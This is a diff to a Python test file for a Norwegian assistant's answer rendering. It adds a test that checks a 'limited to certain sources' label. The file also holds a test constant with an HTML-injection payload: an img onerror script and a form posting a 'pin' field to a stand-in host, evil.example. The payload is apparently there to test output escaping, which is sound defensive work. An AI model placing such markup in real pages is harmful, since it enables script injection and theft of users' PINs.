@@ -6,7 +6,7 @@ from tiny import CHAIN, TODAY, TWO_LINKS, TinyAssistant, cite
 
 from assistant import render, texts
 from assistant.exchanges import Exchange
-from assistant.types import AnswerMode, AnswerStatus, Block, Sentence
+from assistant.types import AnswerMode, AnswerStatus, Block, Sentence, SourceKind
 
 EVIL = "<img src=x onerror=alert(1)><form action=//evil.example><input name=pin>\"'"
 
@@ -26,6 +26,12 @@ def drawn(answer, language="nb"):
 def answer():
     assistant = TinyAssistant()
     return assistant.ask(assistant.question("Hva er terskelen?"))
+
+
+def test_an_answer_from_some_kinds_of_source_says_which_beside_its_day(answer):
+    shown = Exchange(1, "Hei", TODAY, answer=answer, only=(SourceKind.LAW, SourceKind.OWN))
+    assert "Bare fra lov og forskrift eller egen strategi og modell" in render.exchange(shown, "nb")
+    assert "Bare fra" not in render.exchange(replace(shown, only=()), "nb")
 
 
 @pytest.mark.parametrize("status", list(AnswerStatus))
